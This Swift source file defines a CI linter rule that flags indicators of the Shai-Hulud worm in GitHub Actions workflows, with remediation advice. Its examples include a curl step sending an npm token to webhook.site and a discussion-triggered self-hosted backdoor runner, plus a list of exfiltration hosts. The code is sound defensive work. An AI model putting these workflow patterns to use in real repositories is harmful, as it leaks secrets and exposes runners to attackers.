import Foundation
import BulwarkCore
import BulwarkFormats

/// Indicators of known CI-targeting campaigns (Shai-Hulud) and secret exfiltration.
struct CampaignIndicatorRule: Rule {
    typealias Model = CIModel
    static let rule = RuleDescription(
        id: "workflow-campaign-indicator", name: "Known attack campaign indicator", family: "workflows",
        summary: "The workflow matches indicators of a known CI attack (Shai-Hulud names and runner, discussion-triggered self-hosted backdoor, secrets sent to an exfiltration host).",
        rationale: rationale(
            detects: """
            Workflows named `shai-hulud*` (or files `shai-hulud-workflow.yml`), jobs on a runner labelled \
            `SHA1HULUD`, `on: discussion` combined with a self-hosted runner (the Shai-Hulud 2.0 backdoor), \
            `toJSON(secrets)` or secrets sent with `curl`/`wget` to request-capture hosts (`webhook.site`, \
            `requestbin`, `pipedream.net`, `ngrok`, `interact.sh`, `burpcollaborator`).
            """,
            matters: "These are not weaknesses but signs of compromise: the Shai-Hulud worm (September and November 2025) pushed such workflows into thousands of repositories to dump secrets and keep a backdoor runner.",
            fix: "Treat the repository as compromised: remove the workflow, unregister unknown self-hosted runners, rotate every secret and token, and audit recent pushes and package releases.",
            references: ["[CISA: Shai-Hulud npm compromise](https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem)",
                         "[Wiz: Shai-Hulud 2.0](https://www.wiz.io/blog/shai-hulud-2-0-ongoing-supply-chain-attack)"]),
        defaultSeverity: .critical, defaultConfidence: .high,
        remediation: "Handle as an incident: remove the workflow, rotate all secrets, audit runners and releases.",
        examples: [
            Example(.triggers, path: ".github/workflows/discussion.yaml", """
            name: Discussion Create
            on: # <-
              discussion:
            jobs:
              process:
                runs-on: [self-hosted, SHA1HULUD] # <-
                steps:
                  - run: echo ${{ github.event.discussion.body }}
            """, commentPrefix: "#"),
            Example(.triggers, path: wf, """
            on: push
            jobs:
              x:
                runs-on: ubuntu-latest
                steps:
                  - run: curl -d "$S" https://webhook.site/0c8d0e2e-aaaa-bbbb-cccc-000000000000 # <-
                    env:
                      S: ${{ secrets.NPM_TOKEN }}
            """, commentPrefix: "#"),
            Example(.clean, path: wf, """
            name: Docs discussion digest
            on:
              discussion:
                types: [created]
            jobs:
              digest:
                runs-on: ubuntu-latest
                steps:
                  - run: curl -fsS https://api.github.com/repos/acme/x/discussions
            """),
        ])
    var description: RuleDescription { Self.rule }

    static let exfilHosts = ["webhook.site", "requestbin", "pipedream.net", "ngrok.io", "ngrok-free.app", "interact.sh",
                             "burpcollaborator", "oast.fun", "oast.pro", "canarytokens"]

    func check(_ model: CIModel, context: RuleContext) -> [Finding] {
        guard let w = model.workflow else { return [] }
        var out: [Finding] = []
        let fileName = context.file.fileName.lowercased()
        if let n = w.name, n.value.lowercased().replacingOccurrences(of: " ", with: "-").hasPrefix("shai-hulud") {
            out.append(.workflow(Self.rule, "The workflow is named `\(n.value)`, the name used by the Shai-Hulud worm.", context, line: n.line, column: n.column))
        } else if fileName.hasPrefix("shai-hulud") {
            out.append(.workflow(Self.rule, "The workflow file `\(fileName)` matches the Shai-Hulud worm's workflow.", context, line: 1))
        }
        for j in w.jobs {
            if let r = j.runsOn, r.scalars(limit: 32).contains(where: { $0.value.uppercased() == "SHA1HULUD" }) {
                out.append(.workflow(Self.rule, "Job `\(j.id.value)` runs on a `SHA1HULUD` runner, the backdoor runner registered by Shai-Hulud 2.0.", context, line: r.line, anchor: "runner:\(j.id.value)"))
            }
        }
        if w.trigger("discussion") != nil || w.trigger("discussion_comment") != nil, w.jobs.contains(where: \.isSelfHosted) {
            out.append(.workflow(Self.rule, "`on: discussion` with a self-hosted runner: anyone who can open a discussion runs code on it (Shai-Hulud 2.0 backdoor pattern).", context, line: w.onLine, anchor: "discussion"))
        }
        for site in model.scripts {
            let v = site.scalar.value.lowercased()
            guard let host = Self.exfilHosts.first(where: { v.contains($0) }) else { continue }
            let envs = (site.step?.env ?? []) + (site.job?.env ?? []) + w.env
            let usesSecrets = v.contains("secrets") || envs.contains { ($0.value.string ?? "").contains("secrets.") }
            guard usesSecrets else { continue }
            out.append(.workflow(Self.rule, "A script sends data to the request-capture host `\(host)` with secrets in scope: a typical exfiltration pattern.",
                                 context, line: model.line(of: host, in: site.scalar, offset: 0), anchor: "exfil:\(host)"))
        }
        return out
    }
}
